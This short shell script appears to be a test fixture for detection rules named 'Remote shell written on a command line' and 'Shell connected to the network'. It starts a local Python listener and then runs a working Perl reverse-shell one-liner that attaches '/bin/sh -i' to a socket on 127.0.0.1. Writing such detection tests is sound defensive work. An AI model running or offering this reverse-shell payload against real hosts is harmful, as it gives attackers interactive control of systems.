# what: a program on a command line connects and starts a shell
# rules: Remote shell written on a command line; Shell connected to the network
# needs: perl
python3 -c '
import socket
s = socket.create_server(("127.0.0.1", 4546))
s.settimeout(10)
c, _ = s.accept()
c.sendall(b"exit\n")
c.recv(1)' &
sleep 0.7
perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(4546,inet_aton("127.0.0.1")))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
wait
